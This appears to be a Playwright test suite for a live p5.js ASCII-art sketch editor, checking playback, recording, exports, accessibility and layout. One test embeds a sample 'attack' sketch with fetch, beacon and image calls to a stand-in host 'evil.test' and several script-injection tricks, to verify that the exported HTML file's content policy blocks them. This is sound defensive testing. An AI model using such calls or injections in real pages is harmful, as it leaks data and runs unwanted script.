import { pathToFileURL } from 'node:url';
import { expect, test } from './support/reading';
import {
  contentOf,
  LiveExample,
  openExample,
  openShared,
  page1,
  phone,
  runShared,
  sketchWith,
  slug1,
  words1,
} from './support/live';
import { awake, hydrated, inMotion, settled } from './support/page';
import { readGif, readWebM } from './support/recordings';

test.use({ viewport: phone, ...inMotion });

function sizeOf(canvas: HTMLElement | SVGElement): number[] {
  return canvas instanceof HTMLCanvasElement ? [canvas.width, canvas.height] : [];
}

test.describe('controls', () => {
  test('pause, step, play and restart', async ({ page }) => {
    // Notes in each document the first frame that is seen: a fast sketch draws on meanwhile.
    await page.addInitScript(() => {
      const look = (): void => {
        const count: unknown = Reflect.get(window, 'frameCount');
        if (typeof count === 'number' && count > 0) Reflect.set(window, 'firstSeen', count);
        else requestAnimationFrame(look);
      };
      look();
    });
    const example = await openExample(page);
    await example.is('running');
    await expect(example.root.getByText(/\d+ frames\/s/)).toBeVisible();
    await example.clickRead('Pause');
    await example.is('paused');
    const paused = Number(await example.evaluate('frameCount'));
    await example.button('Step').press('Enter');
    await expect.poll(() => example.evaluate('frameCount')).toBe(paused + 1);
    await example.clickRead('Play');
    await expect
      .poll(async () => Number(await example.evaluate('frameCount')))
      .toBeGreaterThan(paused + 2);
    await example.evaluate('window.ranBefore = true');
    await example.button('Restart').press('Enter');
    // A restarted sketch has a new document, whose frames are counted from the beginning.
    await expect.poll(() => example.evaluate('typeof window.ranBefore')).toBe('undefined');
    await example.is('running');
    // The sketch may be seen to run before the note of its first frame is made.
    await expect
      .poll(async () => Number(await example.evaluate('window.firstSeen')))
      .toBeLessThan(paused + 2);
  });

  test('Stop beside Pause ends the timers of a sketch, too, and moves nothing', async ({
    page,
  }) => {
    await page.setViewportSize({ width: 390, height: 800 });
    const shared = await openShared(
      page,
      sketchWith("setInterval(() => console.log('still here ' + Math.random()), 50);"),
    );
    const toolbar = shared.root.getByRole('group', { name: 'Sketch', exact: true });
    const places = () =>
      toolbar.getByRole('button').evaluateAll((buttons) =>
        buttons.map((button) => {
          const { left, top, width } = button.getBoundingClientRect();
          return [left, top + window.scrollY, width].map((pixels) => Math.round(pixels));
        }),
      );
    await expect(shared.button('Stop')).toBeDisabled();
    const before = await places();
    await shared.button('Run').press('Enter');
    await shared.is('running');
    expect(await places()).toEqual(before);
    await shared.button('Step').press('Enter');
    await shared.is('paused');
    const log = shared.root.getByRole('log');
    const paused = await log.innerText();
    await expect.poll(() => log.innerText()).not.toBe(paused);
    expect(await places()).toEqual(before);
    await shared.button('Stop').press('Enter');
    await shared.is('idle');
    await expect(shared.preview.locator('iframe')).toHaveCount(0);
    await expect(shared.button('Play')).toBeFocused();
    expect(await places()).toEqual(before);
    const { scrollWidth, clientWidth } = await page.evaluate(() => {
      const { scrollWidth, clientWidth } = document.documentElement;
      return { scrollWidth, clientWidth };
    });
    expect(scrollWidth).toBeLessThanOrEqual(clientWidth);
  });

  test('either major version of p5.js', async ({ page }) => {
    const example = await openExample(page);
    await example.is('running');
    const version = 'p5.VERSION || p5.prototype.VERSION';
    expect(await example.evaluate(version)).toMatch(/^1\./);
    await example.button('p5 2.x').press('Enter');
    await expect(example.button('p5 2.x')).toHaveAttribute('aria-pressed', 'true');
    await expect.poll(() => example.evaluate(version).catch(() => '')).toMatch(/^2\./);
    await example.is('running');
  });

  test('the plain picture under the characters', async ({ page }) => {
    const example = await openExample(page);
    await example.is('running');
    const hasCharacters = 'p5asciify.asciifier().renderers().hasEnabledRenderers';
    await example.button('WEBGL').press('Enter');
    await expect.poll(() => example.evaluate(hasCharacters)).toBe(false);
    await example.button('Restart').press('Enter');
    await example.is('running');
    await expect.poll(() => example.evaluate(hasCharacters)).toBe(false);
    await example.button('ASCII').press('Enter');
    await expect.poll(() => example.evaluate(hasCharacters)).toBe(true);
  });

  test('the same sketch in characters that are chosen by shape', async ({ page }) => {
    const example = await openExample(page);
    await example.is('running');
    const enabled = `p5asciify.asciifier().renderers().renderers
      .filter(({ renderer }) => renderer.options.enabled)
      .map(({ renderer }) => renderer.constructor === p5.asciify.renderers.renderer2d.feature.P5AsciifyBrightnessRenderer ? 'brightness' : renderer.steadiness ? 'shape' : 'other')`;
    const own = await example.evaluate(enabled);
    expect(own).not.toContain('shape');
    for (const [look, expected] of [
      ['Shapes', ['shape']],
      ['WEBGL', []],
      ['Shapes', ['shape']],
      ['ASCII', own],
    ] as const) {
      await example.button(look).press('Enter');
      await expect(example.button(look)).toHaveAttribute('aria-pressed', 'true');
      await expect.poll(() => example.evaluate(enabled)).toEqual(expected);
    }
    await example.button('Shapes').press('Enter');
    await example.button('p5 2.x').press('Enter');
    await example.is('running');
    await expect.poll(() => example.evaluate(enabled).catch(() => '')).toEqual(['shape']);
  });

  test('full screen', async ({ page }) => {
    const example = await openExample(page);
    await example.button('Full screen').press('Enter');
    await expect
      .poll(() => page.evaluate(() => document.fullscreenElement?.hasAttribute('data-status')))
      .toBe(true);
  });

  test('no full screen where the browser has none, and a no is taken', async ({ page }) => {
    const errors: Error[] = [];
    page.on('pageerror', (error) => errors.push(error));
    await page.emulateMedia({ reducedMotion: 'reduce' });
    await page.addInitScript(() => {
      Element.prototype.requestFullscreen = () => Promise.reject(new TypeError('Refused'));
    });
    const example = await openExample(page);
    await example.button('Full screen').press('Enter');
    await expect(page.getByRole('status').getByText('did not allow full screen')).toBeAttached();
    expect(errors).toEqual([]);

    // Safari on an iPhone has no Fullscreen API for elements.
    await page.addInitScript(() => {
      Object.defineProperty(document, 'fullscreenEnabled', { value: undefined });
    });
    await hydrated(page, page1);
    await awake(page);
    await expect(example.button('Full screen')).toHaveCount(0);
  });

  for (const [action, ending, start] of [
    ['Save the frame as text', 'txt', / {4}/],
    ['Save the frame as SVG', 'svg', /^<(\?xml|svg)/],
    ['Save the frame as PNG', 'png', /^.PNG/],
    ['Save the frame as JSON', 'json', /^\{/],
  ] as const) {
    test(action, async ({ page }) => {
      const example = await openExample(page);
      await example.is('running');
      const saving = page.waitForEvent('download');
      await example.choose(action);
      const download = await saving;
      expect(download.suggestedFilename()).toBe(`${slug1}.${ending}`);
      expect((await contentOf(download)).toString('latin1')).toMatch(start);
    });
  }

  test('the frame as JSON is data', async ({ page }) => {
    const example = await openExample(page);
    await example.is('running');
    const saving = page.waitForEvent('download');
    await example.choose('Save the frame as JSON');
    const json: unknown = JSON.parse((await contentOf(await saving)).toString());
    const columns = await example.evaluate('p5asciify.asciifier().grid.cols');
    expect(json).toMatchObject({ metadata: { gridSize: { cols: columns } } });
  });

  test('the frame as text, on the clipboard', async ({ page, context }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const example = await openExample(page);
    await example.is('running');
    await example.choose('Copy the frame as text');
    await expect(example.root.getByText('Frame copied.')).toBeVisible();
    const rows = (await page.evaluate(() => navigator.clipboard.readText())).split(/\r?\n/);
    expect(rows.length).toBeGreaterThanOrEqual(
      Number(await example.evaluate('p5asciify.asciifier().grid.rows')),
    );
    expect(rows[0]).toHaveLength(Number(await example.evaluate('p5asciify.asciifier().grid.cols')));
  });

  /** A sketch with a small canvas, because WebGL runs in software here. */
  const small = sketchWith('').replace('windowWidth, windowHeight', '160, 100');

  for (const major of ['1', '2'] as const) {
    for (const format of ['video', 'GIF'] as const) {
      test(`a ${format}, shown while it is made, ended early, on p5.js ${major}.x`, async ({
        page,
      }) => {
        const workers: string[] = [];
        page.on('worker', (worker) => workers.push(worker.url()));
        const shared = await openShared(page, small, major);
        await shared.button('Run').click();
        await shared.is('running');
        const sign = shared.root.getByRole('group', { name: 'Recording' });
        await shared.button('More').press('Enter');
        await shared.root.getByLabel('Length of a recording').selectOption('10 seconds');
        await expect(sign).toHaveCount(0);
        expect(workers).toEqual([]);
        const saving = page.waitForEvent('download', { timeout: 50_000 });
        await shared.button(`Record a ${format}`).press('Enter');
        await expect(sign).toContainText(/Recording, \d+ of 10 s/);
        await expect(page.locator('#announcer')).toHaveText('Recording for 10 seconds.');
        const before = await shared.evaluate('frameCount');
        await expect.poll(() => shared.evaluate(`frameCount > ${String(before)} + 3`)).toBe(true);
        // Only one recording runs at a time.
        await shared.button('More').press('Enter');
        await expect(shared.button('Record a GIF')).toBeDisabled();
        await page.keyboard.press('Escape');
        await sign.getByRole('button', { name: 'Stop recording' }).press('Enter');

        const download = await saving;
        const file = await contentOf(download);
        const canvas = await shared.sketch.locator('canvas').first().evaluate(sizeOf);
        if (format === 'GIF') {
          expect(download.suggestedFilename()).toBe('shared.gif');
          const { width, height, delays } = readGif(file);
          expect([width, height]).toEqual(canvas);
          expect(delays.length).toBeGreaterThan(1);
          expect(Math.min(...delays)).toBeGreaterThanOrEqual(20);
          expect(workers).toHaveLength(1);
        } else {
          expect(download.suggestedFilename()).toBe('shared.webm');
          const { width, height, frames } = readWebM(file);
          expect([width, height]).toEqual(canvas);
          expect(frames).toBeGreaterThan(1);
          expect(workers).toEqual([]);
        }
        await expect(shared.root.getByText(/^Saved shared\.\w+: \d+ frames\.$/)).toBeVisible();
        await expect(sign).toHaveCount(0);
        // “Stop recording” is gone; the focus moves to Pause, not to the beginning of the page.
        await expect(shared.button('Pause')).toBeFocused();
      });
    }
  }

  test('a recording ends by itself after the chosen time', async ({ page }) => {
    const shared = await runShared(page, small);
    await shared.is('running');
    const saving = page.waitForEvent('download', { timeout: 50_000 });
    await shared.choose('Record a video');
    await expect(shared.root.getByRole('group', { name: 'Recording' })).toContainText('of 3 s');
    expect(readWebM(await contentOf(await saving)).frames).toBeGreaterThan(1);
  });

  test('nothing is said to be saved of a sketch that draws nothing', async ({ page }) => {
    const saved: string[] = [];
    page.on('download', (download) => saved.push(download.suggestedFilename()));
    const shared = await runShared(page, sketchWith('').replace('rotateY', 'noLoop();\n  rotateY'));
    await shared.is('running');
    for (const action of ['Record a video', 'Record a GIF']) {
      await shared.choose(action);
      await expect(shared.root.getByText(/drew nothing during the recording/)).toBeVisible();
      await expect(shared.button('More')).toHaveAttribute('aria-expanded', 'false');
    }
    expect(saved).toEqual([]);
  });

  test('a paused sketch is played before it is recorded', async ({ page }) => {
    const example = await openExample(page);
    await example.is('running');
    await example.clickRead('Pause');
    await example.is('paused');
    await example.choose('Record a video');
    await expect(
      example.root.getByText('The sketch is paused. Play the sketch first.'),
    ).toBeVisible();
    await expect(example.root.getByRole('group', { name: 'Recording' })).toHaveCount(0);
  });

  test('files are named after the sketch', async ({ page }) => {
    const shared = await runShared(page, sketchWith(''));
    await shared.is('running');
    const saving = page.waitForEvent('download');
    await shared.choose('Save the frame as PNG');
    expect((await saving).suggestedFilename()).toBe('shared.png');
  });

  test('a frame cannot be saved before there is one', async ({ page }) => {
    await page.emulateMedia({ reducedMotion: 'reduce' });
    const example = await openExample(page);
    // The live regions must exist before their text: one inserted with text is not announced.
    const statuses = example.root.getByRole('status');
    await expect(statuses).toHaveCount(2);
    const more = example.button('More');
    await more.press('Enter');
    await example.button('Save the frame as PNG').press('Enter');
    await expect(statuses.filter({ hasText: 'Play the sketch first.' })).toBeVisible();
    await expect(statuses).toHaveCount(2);
    // The menu is closed and the pressed button hidden, so the focus is on the menu's own button.
    await expect(more).toBeFocused();
  });

  test('as one HTML file that works from disk', async ({ page, context }) => {
    await page.emulateMedia({ reducedMotion: 'reduce' });
    const example = await openExample(page);
    const saving = page.waitForEvent('download');
    await example.choose('Download as one HTML file');
    const path = test.info().outputPath('sketch.html');
    await (await saving).saveAs(path);
    const requests: string[] = [];
    const fromDisk = await context.newPage();
    fromDisk.on('request', (request) => requests.push(request.url()));
    await fromDisk.goto(pathToFileURL(path).href);
    await expect
      .poll(() => fromDisk.evaluate(() => Number(Reflect.get(window, 'frameCount'))))
      .toBeGreaterThan(2);
    expect(
      String(await fromDisk.evaluate(() => String(Reflect.get(window, 'p5asciifier')))),
    ).toBeTruthy();
    expect(requests.filter((url) => !/^(file|data|blob):/.test(url))).toEqual([]);
  });

  test('as one HTML file with the shape renderer, if the sketch uses it', async ({
    page,
    context,
  }) => {
    const downloads = { 'text-menu': 'undefined', dandelion: 'object' };
    for (const [slug, type] of Object.entries(downloads)) {
      const example = await openExample(page, `/examples/${slug}`, slug);
      const saving = page.waitForEvent('download');
      await example.choose('Download as one HTML file');
      const path = test.info().outputPath(`${slug}.html`);
      await (await saving).saveAs(path);
      const fromDisk = await context.newPage();
      await fromDisk.goto(pathToFileURL(path).href);
      await expect
        .poll(() => fromDisk.evaluate(() => Number(Reflect.get(window, 'frameCount'))))
        .toBeGreaterThan(0);
      expect(await fromDisk.evaluate(() => typeof Reflect.get(window, 'P5AsciifyShape'))).toBe(
        type,
      );
      await fromDisk.close();
    }
  });

  for (const major of ['1', '2'] as const) {
    test(`as one HTML file with p5.js ${major}.x that runs, and reaches nobody`, async ({
      page,
      context,
    }) => {
      await page.emulateMedia({ reducedMotion: 'reduce' });
      const attack = `
const told = [];
addEventListener('securitypolicyviolation', (event) => told.push(event.effectiveDirective));
const ask = async () => {
  await fetch('https://evil.test/fetch').catch(() => told.push('refused'));
  new Image().src = 'https://evil.test/image';
  navigator.sendBeacon('https://evil.test/beacon', 'text');
  const script = document.createElement('script');
  script.textContent = 'window.slippedIn = true';
  document.body.append(script);
  document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.slippedIn = true">');
  setTimeout('window.slippedIn = true');
};
ask();`;
      const shared = await openShared(page, sketchWith(attack), major);
      const saving = page.waitForEvent('download');
      await shared.choose('Download as one HTML file');
      const path = test.info().outputPath('attack.html');
      await (await saving).saveAs(path);

      const requests: string[] = [];
      const fromDisk = await context.newPage();
      const errors: string[] = [];
      fromDisk.on('pageerror', (error) => errors.push(error.message));
      await context.route('https://evil.test/**', (route) => {
        requests.push(route.request().url());
        return route.abort();
      });
      await fromDisk.goto(pathToFileURL(path).href);
      const told = () => fromDisk.evaluate('told.join()');
      for (const directive of [
        ...['refused', 'img-src', 'connect-src', 'script-src-elem', 'script-src-attr'],
        'script-src',
      ]) {
        await expect.poll(told).toMatch(new RegExp(`(^|,)${directive}(,|$)`));
      }
      await expect
        .poll(() => fromDisk.evaluate(() => Number(Reflect.get(window, 'frameCount'))))
        .toBeGreaterThan(2);
      expect(await fromDisk.evaluate(() => 'slippedIn' in window)).toBe(false);
      expect(requests).toEqual([]);
      expect(errors).toEqual([]);
    });
  }

  test('a link that opens it in the playground, and waits there where motion is unwelcome', async ({
    page,
    context,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.emulateMedia({ reducedMotion: 'reduce' });
    const example = await openExample(page);
    await example.choose('Copy a link to this sketch');
    await expect(example.root.getByText('Link copied.')).toBeVisible();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    await page.goto(link);
    const shared = new LiveExample(page, page.locator('main'));
    await expect(shared.editor).toContainText(words1);
    await expect(page.locator('iframe')).toHaveCount(0);
    await shared.button('Run').click();
    await shared.is('running');
  });

  test('a link holds what chance began with, so that the picture is the same', async ({
    page,
    context,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const drawn = async (example: LiveExample): Promise<unknown> => {
      await example.is('running');
      return example.evaluate('window.drawn');
    };
    const code = sketchWith('').replace(
      'background(0);',
      'background(0);\n  window.drawn ??= [random(), noise(5), Math.random()];',
    );
    const first = await runShared(page, code);
    const numbers = await drawn(first);
    // Pressed by keyboard: with WebGL in software a click beside a busy sketch can hit its sandbox.
    await first.root.getByText('More', { exact: true }).press('Enter');
    await first.button('Copy a link to this sketch').press('Enter');
    await expect(first.root.getByText('Link copied.')).toBeVisible();
    await first.button('Restart').press('Enter');
    await first.is('running');
    await expect.poll(() => drawn(first).catch(() => numbers)).not.toEqual(numbers);

    await page.goto('/docs/intro');
    await page.goto(await page.evaluate(() => navigator.clipboard.readText()));
    const second = new LiveExample(page, page.locator('main'));
    await second.button('Run').click();
    expect(await drawn(second)).toEqual(numbers);
  });

  test('every control can be reached and operated by keyboard', async ({ page }) => {
    const example = await openExample(page);
    await example.is('running');
    await example.button('Pause').focus();
    const names = [
      'Pause',
      'Stop',
      'Restart',
      'Step',
      'ASCII',
      'Shapes',
      'WEBGL',
      'p5 1.x',
      'p5 2.x',
    ];
    for (const name of [...names, 'Full screen', 'Inspect']) {
      await expect(example.button(name)).toBeFocused();
      await page.keyboard.press('Tab');
    }
    const more = example.button('More');
    await expect(more).toBeFocused();
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    await expect(example.button('Copy the frame as text')).toBeFocused();
    await page.keyboard.press('Tab');
    await expect(example.button('Save the frame as text')).toBeFocused();
    const saving = page.waitForEvent('download');
    await page.keyboard.press('Enter');
    await saving;
    await more.press('Enter');
    await expect(example.button('Save the frame as text')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(example.button('Save the frame as text')).toBeHidden();
    await expect(more).toBeFocused();

    await example.button('Pause').press('Enter');
    await example.is('paused');
    await example.button('Step').press('Space');
    await expect(example.root.getByRole('status').getByText('One frame drawn.')).toBeAttached();
    await example.button('Play').press('Enter');
    await example.is('running');
    await example.button('WEBGL').press('Space');
    await expect(example.button('WEBGL')).toHaveAttribute('aria-pressed', 'true');
  });

  test('every control has a name', async ({ page }) => {
    const example = await openExample(page);
    // While it starts, there are fewer controls.
    await example.is('running');
    for (const button of await example.root.getByRole('button').all()) {
      await expect(button).toHaveAccessibleName(/\w/);
    }
  });
});

test.describe('editing', () => {
  // No sketch runs while the test types: software WebGL leaves little time for the page.
  test.use({ contextOptions: { reducedMotion: 'reduce' } });

  test('what is typed runs on command, survives a reload, and can be thrown away', async ({
    page,
  }) => {
    const example = await openExample(page);
    await example.write(sketchWith("console.log('mine');"));
    await page.keyboard.press('ControlOrMeta+Enter');
    await expect(example.root.getByRole('log')).toContainText('mine');
    await page.reload();
    await example.preview.scrollIntoViewIfNeeded();
    await expect(example.root).toContainText("console.log('mine')");
    await expect(page.locator('iframe')).toHaveCount(0);
    page.once('dialog', (dialog) => void dialog.accept());
    await example.button('Reset').press('Enter');
    await expect(example.button('Edit')).toBeFocused();
    await expect(example.root).not.toContainText("console.log('mine')");
    await expect(example.root).toContainText(words1);
  });

  test('Ctrl or Cmd with a full stop ends it, from the editor and from the sketch', async ({
    page,
  }) => {
    const example = await openExample(page);
    await example.button('Edit').click();
    await example.editor.click();
    await page.keyboard.press('ControlOrMeta+Enter');
    await example.is('running');
    await page.keyboard.press('ControlOrMeta+.');
    await example.is('idle');
    await example.clickRead('Play');
    await example.is('running');
    await example.sketch.locator('canvas').click();
    // The sandbox runs in its own process, so the focus arrives after a moment.
    await expect(example.preview.locator('iframe')).toBeFocused();
    // The key press ends the sandbox before Playwright gets its confirmation.
    void page.keyboard.press('ControlOrMeta+.').catch(() => undefined);
    await example.is('idle');
  });

  test('Escape and then Tab leave the editor', async ({ page }) => {
    const example = await openExample(page);
    await example.button('Edit').click();
    await expect(example.editor).toBeFocused();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Tab');
    await expect(example.editor).not.toBeFocused();
  });
});

test.describe('the menu of a sketch', () => {
  test.use({ contextOptions: { reducedMotion: 'reduce' } });

  for (const [width, height] of [
    [390, 844],
    [820, 1180],
    [1440, 900],
    // A phone in landscape: the menu is taller than the viewport.
    [844, 390],
  ] as const) {
    test(`is in view wherever its button is, at ${width} × ${height}`, async ({ page }) => {
      await page.setViewportSize({ width, height });
      for (const path of ['/docs/intro', '/examples/eye', '/playground']) {
        await hydrated(page, path);
        const more = page.getByRole('button', { name: 'More', exact: true }).first();
        for (const block of ['start', 'center', 'end'] as const) {
          await more.evaluate((element, where) => element.scrollIntoView({ block: where }), block);
          await settled(page);
          await more.press('Enter');
          const list = page.getByRole('group', { name: 'More' });
          const where = `${path}, button at the ${block}`;
          await expect(list, where).toBeInViewport({ ratio: 1 });
          // The last action can be scrolled to, and nothing covers it.
          const last = list.getByRole('button').last();
          await last.scrollIntoViewIfNeeded();
          await last.click({ trial: true });
          await page.keyboard.press('Escape');
          await expect(list).toHaveCount(0);
        }
      }
    });
  }

  test('follows its button, and goes when the button has gone', async ({ page }) => {
    const example = await openExample(page);
    await example.button('More').press('Enter');
    const list = example.root.getByRole('group', { name: 'More' });
    const gap = async (): Promise<number> => {
      const [button, box] = [await example.button('More').boundingBox(), await list.boundingBox()];
      if (!button || !box) return NaN;
      return Math.min(
        Math.abs(box.y - button.y - button.height),
        Math.abs(button.y - box.y - box.height),
      );
    };
    await expect.poll(gap).toBeLessThan(2);
    await page.evaluate(() => window.scrollBy({ top: -60, behavior: 'instant' }));
    await expect.poll(gap).toBeLessThan(2);
    await page.evaluate(() => window.scrollTo({ top: 99_999, behavior: 'instant' }));
    await expect(list).toHaveCount(0);
  });
});

test.describe('the playground on a desk', () => {
  test.use({ viewport: { width: 1440, height: 900 }, contextOptions: { reducedMotion: 'reduce' } });

  test('fits the window with the notice open, also when there is much to say', async ({ page }) => {
    const shared = await openShared(
      page,
      sketchWith(
        "for (let i = 0; i < 60; i++) console.log('line ' + i);\nsetTimeout(() => nothing(), 200);",
      ),
    );
    await expect(page.locator('.theme-announcement-bar')).toBeVisible();
    const parts = [
      shared.preview,
      shared.root.getByRole('group', { name: 'Sketch', exact: true }),
      shared.editor,
      shared.root.getByText('Console', { exact: true }),
    ];
    const fits = async (): Promise<void> => {
      for (const part of parts) await expect(part).toBeInViewport({ ratio: 1 });
      const scrolls = await page.evaluate(
        () => document.documentElement.scrollHeight - window.innerHeight,
      );
      expect(scrolls).toBe(0);
    };
    await fits();
    const picture = await shared.preview.boundingBox();
    await shared.button('Run').click();
    await expect(shared.root.getByRole('log')).toContainText('line 59');
    await expect(shared.problem).toContainText('nothing is not defined');
    // The console and the error have not changed the size of the picture.
    expect(await shared.preview.boundingBox()).toEqual(picture);
    await fits();
    await expect(shared.root.getByRole('log')).toBeInViewport({ ratio: 1 });
  });
});
